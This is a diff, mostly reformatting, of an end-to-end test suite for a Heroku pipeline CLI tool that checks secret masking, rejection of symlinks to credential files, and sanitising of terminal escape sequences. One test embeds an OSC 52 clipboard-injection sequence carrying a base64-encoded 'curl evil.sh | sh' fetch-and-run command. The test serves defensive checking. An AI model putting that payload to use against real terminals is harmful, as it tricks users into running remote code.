@@ -194,7 +194,9 @@ describe('e2e: safe with production secrets (issue 9)', function () {
 
       const unset = await cli.run(['kit:bootstrap', '--dry-run'], emulator.url, {cwd: dir})
       expect(unset.code).to.not.equal(0)
-      expect(unset.stderr.replaceAll(/\s+/g, ' ')).to.include('${PROD_DRAIN_URL} is in no config file (the stage declares none), and is not set in the environment')
+      expect(unset.stderr.replaceAll(/\s+/g, ' ')).to.include(
+        '${PROD_DRAIN_URL} is in no config file (the stage declares none), and is not set in the environment',
+      )
     } finally {
       await rm(dir, {recursive: true, force: true})
     }
@@ -317,7 +319,10 @@ describe('e2e: safe with production secrets (issue 9)', function () {
       const yml = await readFile(path.join(dir, 'heroku-kit.yml'), 'utf8')
       expect(yml).to.include('- ${LOG_DRAIN_URL}').and.not.include(token)
       expect(await readFile(path.join(dir, '.env.production'), 'utf8')).to.include(token)
-      const runs = [imported, await cli.run(['kit:import', '-a', 'paths-prod', '--pipeline', 'paths', '--dry-run', '--json', '--force'], emulator.url, {cwd: dir})]
+      const runs = [
+        imported,
+        await cli.run(['kit:import', '-a', 'paths-prod', '--pipeline', 'paths', '--dry-run', '--json', '--force'], emulator.url, {cwd: dir}),
+      ]
 
       // the same URL written into heroku-kit.yml by hand: verify's credential check warns, the plan masks it
       const literal = await scratch({
@@ -325,7 +330,9 @@ describe('e2e: safe with production secrets (issue 9)', function () {
         'heroku-kit.yml': `pipeline: paths\nstages:\n  production:\n    app: paths-prod\n    drains: ["${loggly}", "https://logs.example.com/ingest/9a8b7c6d5e4f3a2b1c0d"]\n`,
       })
       const verify = await cli.run(['kit:verify', '--local', '--json'], emulator.url, {cwd: literal})
-      const check = (JSON.parse(verify.stdout) as {checks: Array<{id: string; status: string; evidence: string[]}>}).checks.find(c => c.id === 'pipeline-file-secrets')!
+      const check = (JSON.parse(verify.stdout) as {checks: Array<{id: string; status: string; evidence: string[]}>}).checks.find(
+        c => c.id === 'pipeline-file-secrets',
+      )!
       expect(check.status).to.equal('warn')
       expect(check.evidence.join('\n')).to.include('bulk/•••/tag/heroku/').and.include('ingest/•••')
       const plan = await cli.run(['kit:bootstrap', '--dry-run'], emulator.url, {cwd: literal, env: quiet})
@@ -363,10 +370,17 @@ describe('e2e: safe with production secrets (issue 9)', function () {
 
     it('19.4: escape sequences in a commit subject, a build stream and an API error never reach stdout or stderr raw', async () => {
       const hostile = [`${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`, `${ESC}]0;pwned${ESC}\\`, `${ESC}[2J`, `${ESC}[1;1H`, '\u009B2J', '\u0007']
-      const raw = (text: string) => hostile.some(sequence => text.includes(sequence)) || text.includes(`${ESC}]`) || /\u001B\[[\d;]*[HJK]/.test(text)
+      const raw = (text: string) =>
+        hostile.some(sequence => text.includes(sequence)) || text.includes(`${ESC}]`) || new RegExp(`${ESC}\\[[\\d;]*[HJK]`).test(text)
       emulator.state.createApp({name: 'esc-staging'})
       const dir = await scratch({'heroku-kit.yml': 'pipeline: esc\nstages:\n  staging:\n    app: esc-staging\n', Procfile: 'web: node server.js\n'})
-      const gitEnv = {...process.env, GIT_AUTHOR_NAME: 'Dev', GIT_AUTHOR_EMAIL: 'dev@example.com', GIT_COMMITTER_NAME: 'Dev', GIT_COMMITTER_EMAIL: 'dev@example.com'}
+      const gitEnv = {
+        ...process.env,
+        GIT_AUTHOR_NAME: 'Dev',
+        GIT_AUTHOR_EMAIL: 'dev@example.com',
+        GIT_COMMITTER_NAME: 'Dev',
+        GIT_COMMITTER_EMAIL: 'dev@example.com',
+      }
       execFileSync('git', ['init', '-q', '-b', 'main'], {cwd: dir, env: gitEnv})
       execFileSync('git', ['add', '-A'], {cwd: dir, env: gitEnv})
       execFileSync('git', ['commit', '-q', '-m', `fix login ${hostile[0]}${hostile[2]}now`], {cwd: dir, env: gitEnv})
@@ -405,7 +419,11 @@ describe('e2e: safe with production secrets (issue 9)', function () {
       // kit:verify reads it as it reads a config file that isn't there: its keys are not compared, nothing of it is shown
       const verify = await cli.run(['kit:verify', '--local'], emulator.url, {cwd: config, env: quiet})
       expect(verify.output).to.not.include(SECRET)
-      for (const args of [['kit:bootstrap', '--dry-run'], ['kit:config:sync', '.env.staging', '--yes'], ['kit:bootstrap', '--yes', '--json']]) {
+      for (const args of [
+        ['kit:bootstrap', '--dry-run'],
+        ['kit:config:sync', '.env.staging', '--yes'],
+        ['kit:bootstrap', '--yes', '--json'],
+      ]) {
         const result = await cli.run(args, emulator.url, {cwd: config, env: quiet})
         expect(result.code, `${args.join(' ')}\n${result.output}`).to.not.equal(0)
         expect(result.output, args.join(' ')).to.include('.env.staging is a link to a file outside the repository')
@@ -417,7 +435,11 @@ describe('e2e: safe with production secrets (issue 9)', function () {
       for (const name of ['Procfile', 'heroku-kit.yml']) {
         const dir = await scratch(name === 'Procfile' ? {'heroku-kit.yml': 'pipeline: shop\n'} : {Procfile: 'web: node server.js\n'})
         await symlink(netrc, path.join(dir, name))
-        for (const args of [['kit:verify', '--local'], ['kit:verify', '--local', '--json'], ['kit:bootstrap', '--dry-run']]) {
+        for (const args of [
+          ['kit:verify', '--local'],
+          ['kit:verify', '--local', '--json'],
+          ['kit:bootstrap', '--dry-run'],
+        ]) {
           const result = await cli.run(args, emulator.url, {cwd: dir, env: quiet})
           expect(result.output, `${name}: ${args.join(' ')}`).to.include(`${name} is a link to a file outside the repository`)
           expect(result.output).to.not.include(SECRET).and.not.include('me@example.com')
